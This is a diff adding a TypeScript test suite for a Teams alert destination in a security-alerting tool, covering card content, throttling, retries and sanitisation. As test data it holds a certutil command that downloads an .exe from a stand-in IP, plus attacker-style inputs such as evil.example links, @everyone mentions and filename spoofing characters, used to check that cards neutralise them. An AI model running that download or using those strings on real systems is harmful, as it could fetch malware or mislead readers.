@@ -1,0 +1,234 @@
+import fc from 'fast-check';
+import { afterEach, describe, expect, it } from 'vitest';
+import type { Fault } from '../../demo/receivers/server.ts';
+import {
+  startTeamsReceiver,
+  type TeamsCard,
+  type TeamsReceiver,
+  type TeamsReceiverOptions,
+} from '../../demo/receivers/teams.ts';
+import { createDestination } from '../../src/destinations/create.ts';
+import { DestinationRefusedError, RowsRefusedError } from '../../src/destinations/errors.ts';
+import type { Destination } from '../../src/destinations/port.ts';
+import { teamsConfig } from '../../src/destinations/teams/config.ts';
+import { alertCard, digestCard } from '../../src/destinations/teams/encode.ts';
+import { nodeHttpClient } from '../../src/hosts/node/http.ts';
+import { type Clock, systemClock } from '../../src/shared/clock.ts';
+import type { Envelope } from '../../src/shared/event.ts';
+import { depsOf } from './deps.ts';
+import { type FakeClock, fakeClock } from './fake-clock.ts';
+import { alert, batchOf, envelope } from './samples.ts';
+
+const signal = new AbortController().signal;
+const MOST_BYTES = 28 * 1024;
+
+/** All that a reader sees of a card, in order. */
+function shown(card: TeamsCard): string {
+  return card.body.map(({ inlines }) => inlines.map(({ text }) => text).join('')).join('\n');
+}
+
+describe('teams', () => {
+  const closers: (() => Promise<void>)[] = [];
+  afterEach(async () => {
+    for (const close of closers.splice(0)) await close();
+  });
+
+  async function open(
+    receiverOver: TeamsReceiverOptions = {},
+    over: Record<string, unknown> = {},
+    realClock?: Clock,
+  ): Promise<{ destination: Destination; receiver: TeamsReceiver; clock: FakeClock }> {
+    const receiver = await startTeamsReceiver({ store: true, ...receiverOver });
+    const clock = fakeClock();
+    const config = { type: 'teams', webhook_url: receiver.url, allow_networks: ['127.0.0.0/8'], ...over };
+    const destination = createDestination(
+      'soc-teams',
+      teamsConfig.parse(config),
+      depsOf(nodeHttpClient, realClock ?? clock),
+    );
+    closers.push(() => destination.close(), receiver.close);
+    return { destination, receiver, clock };
+  }
+
+  it('answers an analyst’s questions in one card', async () => {
+    const { destination, receiver } = await open();
+    const made = alert(1, {
+      event: { ...alert(1).event, AlertId: 'da637551227677560813_-961444813' },
+    });
+    await destination.send(batchOf(destination, [made]), signal);
+    const [card] = receiver.received;
+    const text = card ? shown(card) : '';
+    for (const part of [
+      '🟠 HIGH  Download with certutil',
+      'Time  2026-11-23 07:01:02 UTC',
+      'Device  ws-042.contoso.example',
+      'User  alice@contoso.example',
+      '• FileName: certutil.exe',
+      'certutil.exe -urlcache -f http://203.0.113.9/a.exe',
+      'certutil fetches a file',
+      '• Certificate roll-outs',
+      `event ${made.id}`,
+    ]) {
+      expect(text).toContain(part);
+    }
+    expect(JSON.stringify(card?.body)).toContain('https://attack.mitre.org/techniques/T1105/');
+    expect(card?.actions?.map(({ title }) => title)).toContain('Alert');
+  });
+
+  it('posts at most four messages a second over concurrent batches', async () => {
+    const { destination, receiver, clock } = await open({}, { concurrency: 2 });
+    await Promise.all([
+      destination.send(batchOf(destination, [alert(1), alert(2)], 'a'), signal),
+      destination.send(batchOf(destination, [alert(3), alert(4)], 'b'), signal),
+    ]);
+    expect(receiver.counts.events).toBe(4);
+    expect(clock.monotonic()).toBeGreaterThanOrEqual(750);
+  });
+
+  it('keeps that pace on a real clock', async () => {
+    const { destination, receiver } = await open({ intervalMs: 200 }, {}, systemClock);
+    await destination.send(batchOf(destination, [alert(1), alert(2), alert(3)]), signal);
+    expect(receiver.counts).toMatchObject({ events: 3, refused: 0 });
+  });
+
+  it('holds every message off for as long as Teams asks', async () => {
+    const faults: Fault[] = [{ status: 429, headers: { 'retry-after': '20' } }];
+    const { destination, clock } = await open({ fault: () => faults.shift() });
+    const first = destination.send(batchOf(destination, [alert(1)]), signal);
+    await expect(first).rejects.toMatchObject({ code: 'throttled', retryAfterMs: 20_000 });
+    await destination.send(batchOf(destination, [alert(2)]), signal);
+    expect(clock.monotonic()).toBeGreaterThanOrEqual(20_000);
+  });
+
+  it('goes on where a batch stopped', async () => {
+    const faults: Fault[] = [undefined, { status: 502 }];
+    const { destination, receiver } = await open({ fault: () => faults.shift() });
+    const batch = () => batchOf(destination, [alert(1), alert(2), alert(3)]);
+    await expect(destination.send(batch(), signal)).rejects.toThrow();
+    await destination.send(batch(), signal);
+    expect(receiver.counts.events).toBe(3);
+  });
+
+  it('makes one digest of many alerts, the gravest first', async () => {
+    const { destination, receiver } = await open();
+    const many = Array.from({ length: 20 }, (_, at) =>
+      alert(at, {
+        severity: at < 3 ? 'critical' : 'low',
+        rule: { title: at < 3 ? 'Mimikatz [x](https://evil.example)' : `Rule ${at % 4}` },
+      }),
+    );
+    await destination.send(batchOf(destination, many), signal);
+    expect(receiver.counts.events).toBe(1);
+    const [card] = receiver.received;
+    const [heading, first] = (card ? shown(card) : '').split('\n');
+    expect(heading).toBe('🔴 CRITICAL 20 alerts');
+    expect(first).toBe('🔴 CRITICAL  Mimikatz [x](https://evil.example)  ×3  ws-042.contoso.example ×3  ');
+  });
+
+  it.each([
+    [400, 'TriggerInputSchemaMismatch', DestinationRefusedError],
+    [400, 'InvalidRequestContent', RowsRefusedError],
+    [401, 'AuthorizationFailed', DestinationRefusedError],
+    [404, 'WorkflowNotFound', DestinationRefusedError],
+  ])('takes %i %s as its kind of refusal, with the row', async (status, code, kind) => {
+    const body = JSON.stringify({ error: { code, message: 'no' } });
+    const { destination } = await open({
+      fault: ({ number }) => (number === 2 ? { status, body } : undefined),
+    });
+    const sent = destination.send(batchOf(destination, [alert(1), alert(2)]), signal);
+    await expect(sent).rejects.toBeInstanceOf(kind);
+    if (kind === RowsRefusedError) await expect(sent).rejects.toMatchObject({ rows: [1] });
+  });
+
+  it('wants an address that has its signature', () => {
+    const old = { type: 'teams', webhook_url: 'https://contoso.webhook.office.com/webhookb2/x' };
+    expect(() => teamsConfig.parse(old)).toThrow(/with its `sig`/);
+  });
+});
+
+/** Text as an attacker would write it: Markdown, HTML, mentions, date functions, and what hides. */
+const hostile = fc.oneof(
+  fc.string({ unit: 'binary', maxLength: 4_000 }),
+  fc.constantFrom(
+    '[Reset](https://evil.example)',
+    '<at>everyone</at><a href="https://evil.example">x</a>',
+    '{{DATE(2020-01-01T00:00:00Z)}}{{{TIME(x)}}',
+    '\u202egpj.exe',
+    '',
+    ' ',
+    '"\\'.repeat(3_000),
+    '😀é€'.repeat(2_000),
+    '\u{e0041}'.repeat(2_000),
+    '{'.repeat(2_000),
+  ),
+);
+const COLUMNS =
+  'DeviceName DeviceId AccountUpn FileName InitiatingProcessFileName ProcessCommandLine ActionType RemoteUrl RegistryKey SenderFromAddress RecipientEmailAddress Subject Application Title AlertId SHA256 AccountSid'.split(
+    ' ',
+  );
+const anyEnvelope: fc.Arbitrary<Envelope> = fc
+  .record({
+    time: hostile,
+    table: hostile,
+    tenant: hostile,
+    severity: fc.constantFrom(undefined, 'high' as const, 'critical' as const),
+    title: hostile,
+    text: hostile,
+    tags: fc.array(fc.oneof(hostile, fc.constant('attack.t1059.001')), { maxLength: 20 }),
+    list: fc.array(hostile, { maxLength: 20 }),
+    event: fc.dictionary(fc.constantFrom(...COLUMNS), hostile),
+  })
+  .map(({ time, table, tenant, severity, title, text, tags, list, event }) =>
+    envelope(1, {
+      time,
+      table,
+      tenant,
+      ...(severity && { severity }),
+      rule: {
+        title,
+        id: text,
+        description: text,
+        tags,
+        falsepositives: list,
+        matched: list.map((value) => ({ column: title, value })),
+      },
+      event,
+    }),
+  );
+
+describe('a card for Teams', () => {
+  it('is one that Teams takes whatever the row and the rule hold, and shows nothing as Markdown', async () => {
+    const receiver = await startTeamsReceiver({ store: true });
+    const post = (body: string) => fetch(receiver.url, { method: 'POST', body });
+    await fc.assert(
+      fc.asyncProperty(fc.array(anyEnvelope, { minLength: 1, maxLength: 25 }), async (envelopes) => {
+        const [first] = envelopes;
+        for (const body of [...(first ? [alertCard(first)] : []), digestCard(envelopes)]) {
+          expect(Buffer.byteLength(body)).toBeLessThanOrEqual(MOST_BYTES);
+          const reply = await post(body);
+          expect([reply.status, await reply.text()]).toEqual([202, '']);
+          const card = receiver.received.at(-1);
+          expect(card && shown(card)).not.toMatch(/\{\{|[\u202e\u{e0041}]/u);
+          for (const { type } of card?.body ?? []) expect(type).toBe('RichTextBlock');
+        }
+      }),
+      { numRuns: 60 },
+    );
+    await receiver.close();
+  });
+
+  it('is whole where it is small, and cut where every part is long', () => {
+    const long = 'x'.repeat(5_000);
+    const event = Object.fromEntries(COLUMNS.map((column) => [column, long]));
+    const card = alertCard(alert(1, { event }));
+    expect(card).toContain(`${'x'.repeat(1_199)}…`);
+    const wide = '€'.repeat(5_000);
+    const matched = Array.from({ length: 12 }, () => ({ column: wide, value: wide }));
+    const rule = { title: wide, description: wide, falsepositives: [wide, wide, wide, wide], matched };
+    const full = alertCard(
+      alert(1, { rule, event: Object.fromEntries(COLUMNS.map((column) => [column, wide])) }),
+    );
+    expect(full).toContain(`${'€'.repeat(599)}…`);
+    expect(Buffer.byteLength(full)).toBeLessThanOrEqual(MOST_BYTES);
+  });
+});
